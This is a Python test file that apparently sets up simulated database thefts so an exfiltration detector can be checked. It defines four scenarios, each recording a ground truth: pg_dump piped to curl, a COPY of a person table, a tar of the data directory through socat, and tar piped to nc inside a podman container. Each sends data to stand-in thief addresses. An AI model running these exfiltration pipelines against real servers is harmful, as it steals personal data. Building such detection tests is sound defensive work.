# SPDX-License-Identifier: Apache-2.0
"""The thefts. Each says who should be named for it, and its receiver keeps the truth."""
import os
import shutil

from lab import Skip, run
from postgres import BIN
from truth import Truth

THIEF_WEB = "203.0.113.7"       # (a) a host of the thief's on a network never seen before
THIEF_CLIENT = "198.51.100.66"  # (b) logs in from here, as in the real case
THIEF_V6 = "2001:db8:66::7"     # (c)
THIEF_BOX = "203.0.113.200"     # (e)
LOGIN_BYTES = 4096              # a login's conversation is not yet stolen data


class Theft:
    """What is known about one theft beforehand, and its truth afterwards."""

    def __init__(self, key, title, *, processes, user, destination, port, initiation, container=False, above=0):
        self.key, self.title = key, title
        self.processes, self.user = processes, user
        self.destinations = {destination} if isinstance(destination, str) else set(destination)
        self.port, self.initiation, self.container, self.above = port, initiation, container, above
        self.truth, self.container_id, self.container_name, self.cidfile = None, "", "", ""


def dump_curl(world):
    """pg_dump by a web server's account, piped into an upload."""
    theft = Theft("a", "pg_dump | curl to a new public address", processes={"curl"}, user="www-data",
                  destination=THIEF_WEB, port=443, initiation="connected")
    theft.truth = Truth.sink(world.thief, f"{world.step}-a.truth", THIEF_WEB, 443)
    world.db.run(["sh", "-c", f"{BIN}/pg_dump -h {world.pg.socket} -U postgres registry |"
                  f" curl -sS -T - http://{THIEF_WEB}:443/upload"], user="www-data")
    return theft


def accepted_copy(world):
    """A client nobody has seen logs in and copies the table out: the real case."""
    theft = Theft("b", "a never-seen client logs in and COPYs the table out", processes={"postgres"}, user="postgres",
                  destination=THIEF_CLIENT, port=5432, initiation="accepted", above=LOGIN_BYTES)
    theft.truth = Truth.relay(world.client, f"{world.step}-b.truth", 5432, "192.0.2.1", 5432)
    world.client.run(["sh", "-c", f"{BIN}/psql -Xq -h 127.0.0.1 -U postgres registry"
                      " -c '\\copy person to stdout' >/dev/null"])
    return theft


def tar_socat(world):
    """Root packs the data directory and sends it over IPv6."""
    theft = Theft("c", "tar of the data directory through socat", processes={"socat"}, user="root",
                  destination=THIEF_V6, port=8443, initiation="connected")
    theft.truth = Truth.sink(world.thief, f"{world.step}-c.truth", THIEF_V6, 8443)
    world.db.run(["sh", "-c", f"tar -C {world.pg.data} -cf - --warning=no-file-changed . |"
                  f" socat -u - 'TCP6:[{THIEF_V6}]:8443'"])
    return theft


def rootfs(path):
    """A container's file system that holds busybox and nothing else."""
    os.makedirs(f"{path}/bin")
    for d in ("proc", "sys", "dev", "tmp", "etc", "data", "usr", "lib", "lib64"):
        os.makedirs(f"{path}/{d}")
    shutil.copy("/bin/busybox", f"{path}/bin/busybox")
    for tool in ("sh", "tar", "nc", "true"):
        os.symlink("busybox", f"{path}/bin/{tool}")


def container_begin(world, theft):
    """`podman run` up to the container's own words; the database's files are mounted at /data."""
    if not shutil.which("podman") or not os.path.exists("/bin/busybox"):
        raise Skip("no podman or busybox")
    root = world.lab.path("rootfs")
    if not os.path.exists(root):
        rootfs(root)
    theft.container_name, theft.cidfile = f"{world.lab.name}-{world.step}", world.lab.path(f"{world.step}.cid")
    podman = ["podman", "--runtime", "runc", "--cgroup-manager", "cgroupfs"]
    world.lab.callback(run, podman + ["rm", "-f", "-i", theft.container_name], check=False)
    return podman + ["run", "--name", theft.container_name, "--cidfile", theft.cidfile, "--network", "host",
                     "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024",
                     "--volume", f"{world.pg.data}:/data:ro"]


def container_end(theft):
    with open(theft.cidfile, encoding="ascii") as f:
        theft.container_id = f.read().strip()


def container_tar(world):
    """A backup container with the data directory mounted, doing more than backups."""
    theft = Theft("e", "tar | nc inside a podman container", processes={"nc", "busybox"}, user="root",
                  destination=THIEF_BOX, port=4444, initiation="connected", container=True)
    argv = container_begin(world, theft) + ["--rootfs", world.lab.path("rootfs"), "/bin/sh", "-c"]
    theft.truth = Truth.sink(world.thief, f"{world.step}-e.truth", THIEF_BOX, 4444)
    world.db.run(argv + [f"/bin/tar -C /data -c . | /bin/nc {THIEF_BOX} 4444"])
    container_end(theft)
    return theft


LIVE = [dump_curl, accepted_copy, tar_socat, container_tar]
